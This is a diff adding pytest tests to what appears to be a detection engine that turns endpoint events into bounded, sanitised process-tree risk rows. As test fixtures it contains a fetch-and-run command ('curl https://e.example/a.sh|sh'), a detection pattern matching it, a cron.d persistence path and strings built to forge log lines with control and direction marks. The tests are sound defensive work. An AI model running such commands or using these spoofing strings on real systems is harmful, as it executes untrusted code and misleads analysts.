@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from typing import Any
 
 import pytest
 from engine import START, completed, run, tree_rows
@@ -85,6 +86,75 @@ def test_what_lies_too_deep_is_drawn_without_all_that_is_above_it(length: int) -
     assert len(shown) == len(row["tree"]) - 1
 
 
+HOSTILE = "x\n└─ msiexec.exe /V [4]\n... nothing suspicious"
+MARKS = "\x1b[2K\x85\x9b\u061c\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069"
+
+
+@pytest.mark.parametrize("field", ["process_name", "process_id", "user", "dest", "process"])
+def test_composed_texts_hold_no_line_ends_controls_or_marks_of_direction(field: str) -> None:
+    events = install("sh")
+    for event in events if field in ("dest", "user") else events[1:]:
+        event[field] = HOSTILE + MARKS
+    own = {name: events[1][name] for name in ("dest", "process_id", "_time")}
+    events.append({**own, "file_path": "/etc/cron.d/" + MARKS, "action": "created" + MARKS})
+    file = {"kind": "file", "field": "file_path", "pattern": "/cron"}
+    (row,) = tree_rows(events, catalogue({"field": "process", "pattern": "."}, file))
+    assert (len(row["tree"]), len(row["signal_detail"])) == (2, 2)
+    composed = "".join([*row["tree"], *row["signal_detail"], row["risk_message"]])
+    assert "└─ msie" in composed
+    assert not set(composed) & {"\n", *MARKS.replace("[2K", "")}
+    if field in ("dest", "user"):
+        assert row[field] == HOSTILE + MARKS, "what is searched for is as it came"
+
+
+def test_an_endless_name_hides_nothing() -> None:
+    """Where an event names no process, the name is what its command line begins with."""
+    endless = f'"{"A" * 30_000}" -c "curl https://e.example/a.sh|sh"'
+    events = install(endless)
+    events[1]["process_name"] = ""
+    (row,) = tree_rows(events, catalogue({"field": "process", "pattern": r"curl .*\|sh"}))
+    assert row["tree"][1].endswith("[1001]  <-- TST001")
+    assert row["signal_detail"][0].endswith("[1001] `curl https://e.example/a.sh|sh`")
+    assert len(row["risk_message"]) < 500
+    assert size(row) < 2_000
+
+
+def size(row: dict[str, Any]) -> int:
+    """Count the characters of a row as an index has it, with the names of the columns."""
+    values = ("\n".join(v) if isinstance(v, list) else str(v) for v in row.values())
+    return len("".join(f'{name}="{value}", ' for name, value in zip(row, values)))
+
+
+def test_a_row_is_below_what_splunk_indexes_though_everything_in_it_is_long() -> None:
+    long = "x" * 50_000
+    fields = "dest user process_guid process_id parent_process_name parent_process".split()
+    hostile = {name: f"{name} {long}" for name in fields}
+    top = {**hostile, "process_name": "dpkg", "process": "dpkg -i " + long, "_time": START}
+    events = [top]
+    for i in range(80):
+        same = {"dest": top["dest"], "user": top["user"], "_time": START + i}
+        child = {**same, "process_guid": f"g{i} {long}", "process_id": f"{i} {long}"}
+        process = {
+            "process_name": f"sh{i} {long}",
+            "process": f"sh {i} {long} https://e.example/{i}{long}",
+        }
+        parent = {"parent_process_guid": top["process_guid"], "parent_process_name": "dpkg"}
+        events.append({**child, **process, **parent})
+        events.append({**child, "file_path": f"/{i}{long}", "action": long})
+    changes = [{"title": f"{i} {long}", "pattern": f"^sh{i} ", "weight": "20"} for i in range(40)]
+    written = {"kind": "file", "field": "file_path", "title": long}
+    changes += [{**written, "pattern": f"^/{i}x"} for i in range(40, 60)]
+    (row,) = tree_rows(events, catalogue(*changes))
+    assert row["process_count"] == 81
+    assert len(row["signal"]) == 60
+    assert size(row) < 10_000
+    assert json.loads(row["score_json"])["signals_left_out"] > 0
+    assert row["signal_detail"][0].startswith("TST")
+    assert row["signal_detail"][-1].endswith("more signals left out")
+    assert len(row["threat_object"]) == len(row["threat_object_type"]) > 0
+    assert min(len(row["process"]), len(row["parent_process"])) > 100
+
+
 def test_every_part_of_a_row_is_bounded() -> None:
     changes = [{"title": f"signal {i} " + "t" * 100, "pattern": "^s" + "h?" * i} for i in range(80)]
     wide = install("sh " + "x" * 100_000, process="dpkg -i " + "a" * 50_000)
@@ -95,8 +165,7 @@ def test_every_part_of_a_row_is_bounded() -> None:
     assert json.loads(row["score_json"])["signals_left_out"] > 0
     assert len(row["process"]) <= 1_000
     text = "".join("\n".join(v) if isinstance(v, list) else str(v) for v in row.values())
-    assert len(text) < 15_000
-    assert len(text) - len("".join(row["signal"])) - len("".join(row["allowlist"])) < 10_000
+    assert len(text) < 10_000
 
 
 def test_a_long_text_is_cut_in_the_middle_on_one_line() -> None:
@@ -105,6 +174,12 @@ def test_a_long_text_is_cut_in_the_middle_on_one_line() -> None:
     assert len(long) == 40
     assert long.startswith("begin ")
     assert long.endswith(" end")
+
+
+@pytest.mark.parametrize("mark", MARKS.replace("[2K", ""))
+def test_a_mark_that_could_repaint_or_turn_a_line_is_a_blank(mark: str) -> None:
+    assert cut(f"a{mark}b", 40) == "a b"
+    assert cut(f"{mark}a{mark}", 40) == "a"
 
 
 def test_the_risk_message_reads_like_a_sentence() -> None:
